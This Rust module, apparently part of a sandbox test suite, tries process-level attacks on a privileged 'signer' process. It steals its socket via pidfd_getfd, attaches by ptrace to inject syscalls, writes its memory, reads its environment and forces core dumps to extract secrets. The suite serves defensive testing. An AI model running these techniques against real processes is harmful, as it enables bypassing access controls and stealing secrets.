//! Accessing the signer, which alone may send to the forbidden address. `BFP_VICTIM` is a process of the signer that
//! holds a connection, and `BFP_DESCRIPTOR` the connection's number there.
#![expect(unsafe_code, reason = "tracing and foreign memory")]

use std::io::{Seek, SeekFrom, Write};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd, RawFd};
use std::os::unix::process::CommandExt;
use std::process::Command;

use crate::Technique;
use crate::aim::Aim;
use crate::sys::{self, Name, Refused};

pub(crate) const TECHNIQUES: &[Technique] = &[
    ("take-the-signers-socket", take_socket),
    ("trace-the-signer", trace),
    ("seize-the-signer", seize),
    ("write-the-signers-memory-by-proc", write_memory_by_proc),
    ("write-the-signers-memory", write_memory),
    ("read-the-signers-memory", read_memory),
    ("start-the-signer-traced", start_traced),
    ("inject-into-a-stranger", inject),
    ("environment-of-the-signer", read_environment),
    ("core-dump-of-the-signer", dump_core),
    ("samples-of-the-signer", take_samples),
    ("change-ftrace-enabled", change_ftrace_enabled),
];

fn number(variable: &str) -> Result<i32, Refused> {
    let value = std::env::var(variable).ok().and_then(|value| value.parse().ok());
    value.ok_or(Refused::new("environment", libc::ENOENT))
}

fn victim() -> Result<i32, Refused> {
    number("BFP_VICTIM")
}

fn take_socket(_: &Aim) -> Result<(), Refused> {
    let (victim, descriptor) = (victim()?, number("BFP_DESCRIPTOR")?);
    // SAFETY: takes numbers; the descriptors are new.
    let socket = unsafe {
        let pidfd = sys::check("pidfd_open", libc::syscall(libc::SYS_pidfd_open, victim, 0))?;
        let pidfd = OwnedFd::from_raw_fd(pidfd as RawFd);
        let taken = libc::syscall(libc::SYS_pidfd_getfd, pidfd.as_raw_fd(), descriptor, 0);
        OwnedFd::from_raw_fd(sys::check("pidfd_getfd", taken)? as RawFd)
    };
    sys::send(&socket)
}

fn trace(_: &Aim) -> Result<(), Refused> {
    let victim = victim()?;
    // SAFETY: takes numbers and null pointers; the victim goes on as it was.
    unsafe {
        let null = std::ptr::null_mut::<libc::c_void>();
        sys::check("ptrace", libc::ptrace(libc::PTRACE_ATTACH, victim, null, null))?;
        libc::waitpid(victim, std::ptr::null_mut(), libc::__WALL);
        sys::check("ptrace", libc::ptrace(libc::PTRACE_DETACH, victim, null, null)).map(drop)
    }
}

fn seize(_: &Aim) -> Result<(), Refused> {
    let victim = victim()?;
    // SAFETY: as above.
    unsafe {
        let null = std::ptr::null_mut::<libc::c_void>();
        sys::check("ptrace", libc::ptrace(libc::PTRACE_SEIZE, victim, null, null)).map(drop)
    }
}

/// An address in the victim that can be read and written: the beginning of its stack.
fn stack_of(victim: i32) -> Result<u64, Refused> {
    let maps = std::fs::read_to_string(format!("/proc/{victim}/maps")).map_err(Refused::io("open"))?;
    let line = maps.lines().find(|line| line.ends_with("[stack]")).ok_or(Refused::new("maps", libc::ENOENT))?;
    let end = line.split(['-', ' ']).nth(1).and_then(|word| u64::from_str_radix(word, 16).ok());
    end.map(|end| end - 8).ok_or(Refused::new("maps", libc::EINVAL))
}

fn write_memory_by_proc(_: &Aim) -> Result<(), Refused> {
    let victim = victim()?;
    let place = stack_of(victim)?;
    let memory = std::fs::OpenOptions::new().write(true).open(format!("/proc/{victim}/mem"));
    let mut memory = memory.map_err(Refused::io("open"))?;
    memory.seek(SeekFrom::Start(place)).map_err(Refused::io("lseek"))?;
    memory.write_all(&[0]).map_err(Refused::io("write"))
}

fn foreign(victim: i32, call: &'static str, number: libc::c_long) -> Result<(), Refused> {
    let mut byte = [0u8; 1];
    let own = libc::iovec { iov_base: byte.as_mut_ptr().cast(), iov_len: 1 };
    // The kernel checks the caller before the address: a caller that may not see the map needs no valid address.
    let place = stack_of(victim).unwrap_or(0x1000);
    let there = libc::iovec { iov_base: place as *mut libc::c_void, iov_len: 1 };
    // SAFETY: the kernel checks the foreign address; one's own is alive and as long as is said.
    let moved = unsafe { libc::syscall(number, victim, &raw const own, 1usize, &raw const there, 1usize, 0usize) };
    sys::check(call, moved).map(drop)
}

fn write_memory(_: &Aim) -> Result<(), Refused> {
    foreign(victim()?, "process_vm_writev", libc::SYS_process_vm_writev)
}

fn read_memory(_: &Aim) -> Result<(), Refused> {
    foreign(victim()?, "process_vm_readv", libc::SYS_process_vm_readv)
}

/// A child that requests to be traced and then executes the signer: it must not be the signer.
fn start_traced(aim: &Aim) -> Result<(), Refused> {
    let mut command = Command::new("/usr/bin/signer");
    command.arg("connect").args(aim.words()).stdout(std::process::Stdio::piped());
    // SAFETY: one call that allocates nothing.
    unsafe {
        command.pre_exec(|| {
            let null = std::ptr::null_mut::<libc::c_void>();
            libc::ptrace(libc::PTRACE_TRACEME, 0, null, null);
            Ok(())
        });
    }
    let tracing = std::thread::spawn(move || -> Result<String, Refused> {
        let child = command.spawn().map_err(Refused::io("execve"))?;
        let pid = child.id() as i32;
        // SAFETY: takes numbers and null pointers. The tracer is the thread that started the child.
        unsafe {
            let null = std::ptr::null_mut::<libc::c_void>();
            let mut status = 0;
            while libc::waitpid(pid, &raw mut status, libc::__WALL) == pid && libc::WIFSTOPPED(status) {
                libc::ptrace(libc::PTRACE_CONT, pid, null, null);
            }
        }
        let mut said = String::new();
        if let Some(mut output) = child.stdout {
            let _unread = std::io::Read::read_to_string(&mut output, &mut said);
        }
        Ok(said.trim().to_owned())
    });
    let said = tracing.join().unwrap_or_else(|_| Err(Refused::new("thread", 0)))?;
    match said.as_str() {
        "ok" => Ok(()),
        said if said.ends_with("EPERM") => Err(Refused::new("the signer's connect", libc::EPERM)),
        _ => Err(Refused::new("the signer", libc::EINVAL)),
    }
}

/// A traced process that is stopped, with its registers as they were.
struct Stopped {
    pid: i32,
    registers: libc::user_regs_struct,
}

const NOWHERE: *mut libc::c_void = std::ptr::null_mut();

impl Stopped {
    fn attach(pid: i32) -> Result<Stopped, Refused> {
        // SAFETY: takes numbers and null pointers; the registers are alive, and zeros are a valid value of them.
        unsafe {
            sys::check("ptrace", libc::ptrace(libc::PTRACE_ATTACH, pid, NOWHERE, NOWHERE))?;
            libc::waitpid(pid, std::ptr::null_mut(), libc::__WALL);
            let mut registers: libc::user_regs_struct = std::mem::zeroed();
            sys::check("ptrace", libc::ptrace(libc::PTRACE_GETREGS, pid, NOWHERE, &raw mut registers))?;
            Ok(Stopped { pid, registers })
        }
    }

    /// Makes the process execute a system call where it is stopped. Returns the result.
    fn call(&self, number: libc::c_long, arguments: [u64; 6]) -> Result<i64, Refused> {
        let mut registers = self.registers;
        registers.rax = number as u64;
        // No system call must be restarted.
        registers.orig_rax = u64::MAX;
        [registers.rdi, registers.rsi, registers.rdx, registers.r10, registers.r8, registers.r9] = arguments;
        // SAFETY: as above.
        unsafe {
            sys::check("ptrace", libc::ptrace(libc::PTRACE_SETREGS, self.pid, NOWHERE, &raw const registers))?;
            sys::check("ptrace", libc::ptrace(libc::PTRACE_SINGLESTEP, self.pid, NOWHERE, NOWHERE))?;
            libc::waitpid(self.pid, std::ptr::null_mut(), libc::__WALL);
            sys::check("ptrace", libc::ptrace(libc::PTRACE_GETREGS, self.pid, NOWHERE, &raw mut registers))?;
        }
        Ok(registers.rax as i64)
    }

    fn write(&self, place: u64, bytes: &[u8]) -> Result<(), Refused> {
        for (offset, word) in (0u64..).step_by(8).zip(bytes.chunks(8)) {
            let mut whole = [0; 8];
            whole.iter_mut().zip(word).for_each(|(to, from)| *to = *from);
            let (at, value) = ((place + offset) as *mut libc::c_void, u64::from_ne_bytes(whole) as *mut libc::c_void);
            // SAFETY: the kernel checks the foreign address.
            sys::check("ptrace", unsafe { libc::ptrace(libc::PTRACE_POKEDATA, self.pid, at, value) })?;
        }
        Ok(())
    }
}

/// Makes a process of the same user, which no rule names, connect and send.
fn inject(aim: &Aim) -> Result<(), Refused> {
    /// `syscall`, and padding after it.
    const SYSCALL: [u8; 8] = [0x0f, 0x05, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90];
    let victim = Stopped::attach(victim()?)?;
    victim.write(victim.registers.rip, &SYSCALL)?;
    let name = Name::of(aim.forbidden);
    let place = (victim.registers.rsp - 1024) & !15;
    // SAFETY: a name is as long as it says, and all of it was written.
    let bytes = unsafe { std::slice::from_raw_parts(name.pointer().cast::<u8>(), name.length as usize) };
    victim.write(place, bytes)?;
    victim.write(place + 64, sys::MESSAGE)?;
    let done = |call, result: i64| if result < 0 { Err(Refused::new(call, -result as i32)) } else { Ok(result as u64) };
    let (family, kind) = (aim.family() as u64, aim.kind() as u64);
    let socket = done("its socket", victim.call(libc::SYS_socket, [family, kind, 0, 0, 0, 0])?)?;
    let length = u64::from(name.length);
    done("its connect", victim.call(libc::SYS_connect, [socket, place, length, 0, 0, 0])?)?;
    let message = [socket, place + 64, sys::MESSAGE.len() as u64, 0, 0, 0];
    done("its send", victim.call(libc::SYS_sendto, message)?).map(drop)
}

/// What the suite gives to the victim of an attack.
const HELD: &[u8] = b"held-by-it-alone";

fn is_held_in(bytes: &[u8]) -> bool {
    bytes.windows(HELD.len()).any(|window| window == HELD)
}

fn read_environment(_: &Aim) -> Result<(), Refused> {
    let environment = std::fs::read(format!("/proc/{}/environ", victim()?)).map_err(Refused::io("open"))?;
    if is_held_in(&environment) { Ok(()) } else { Err(Refused::new("environ", libc::ENOENT)) }
}

/// Makes the kernel write the victim's memory to a file of its user.
fn dump_core(_: &Aim) -> Result<(), Refused> {
    let victim = victim()?;
    // SAFETY: takes numbers; the limits are alive, and a null is not written to.
    unsafe {
        let mut limit = libc::rlimit { rlim_cur: 0, rlim_max: 0 };
        sys::check("prlimit", libc::prlimit(victim, libc::RLIMIT_CORE, std::ptr::null(), &raw mut limit).into())?;
        limit.rlim_cur = limit.rlim_max;
        let set = libc::prlimit(victim, libc::RLIMIT_CORE, &raw const limit, std::ptr::null_mut());
        sys::check("prlimit", set.into())?;
        sys::check("kill", libc::kill(victim, libc::SIGABRT).into())?;
    }
    // The suite waits for it when this is over; until then the file grows.
    for _ in 0..200 {
        std::thread::sleep(std::time::Duration::from_millis(20));
        let files = std::fs::read_dir(crate::other::WORKSHOP).map_err(Refused::io("open"))?;
        let cores = files.flatten().filter(|file| file.file_name().to_string_lossy().starts_with("core"));
        if cores.filter_map(|file| std::fs::read(file.path()).ok()).any(|core| is_held_in(&core)) {
            return Ok(());
        }
    }
    Err(Refused::new("core", libc::ENOENT))
}

/// Requests samples of the victim's stack each time it runs.
fn take_samples(_: &Aim) -> Result<(), Refused> {
    /// `struct perf_event_attr`, include/uapi/linux/perf_event.h, as far as it is used.
    #[repr(C)]
    #[derive(Default)]
    struct Attributes {
        kind: u32,
        size: u32,
        config: u64,
        period: u64,
        sample: u64,
        format: u64,
        flags: u64,
        wakeup: u32,
        breakpoint: u32,
        config_1: u64,
        config_2: u64,
        branches: u64,
        registers: u64,
        stack: u32,
        clock: i32,
        interrupt_registers: u64,
        auxiliary: u32,
        depth: u16,
        reserved: u16,
    }
    const SOFTWARE: u32 = 1;
    const CONTEXT_SWITCHES: u64 = 3;
    const STACK_AND_REGISTERS: u64 = 1 << 13 | 1 << 12;
    let attributes = Attributes {
        kind: SOFTWARE,
        size: size_of::<Attributes>() as u32,
        config: CONTEXT_SWITCHES,
        period: 1,
        sample: STACK_AND_REGISTERS,
        registers: 0xff,
        stack: 16384,
        // Without the kernel's part, which other users may not see.
        flags: 1 << 5 | 1 << 6,
        ..Attributes::default()
    };
    // SAFETY: the attributes are alive, and as long as they say; the descriptor is closed with the process.
    let opened = unsafe { libc::syscall(libc::SYS_perf_event_open, &raw const attributes, victim()?, -1, -1, 0) };
    sys::check("perf_event_open", opened).map(drop)
}

/// Before 7.3 the kernel calls no program while this is 0.
fn change_ftrace_enabled(_: &Aim) -> Result<(), Refused> {
    let switch = "/proc/sys/kernel/ftrace_enabled";
    std::fs::write(switch, "0").map_err(Refused::io("write"))?;
    std::fs::write(switch, "1").map_err(Refused::io("write"))
}
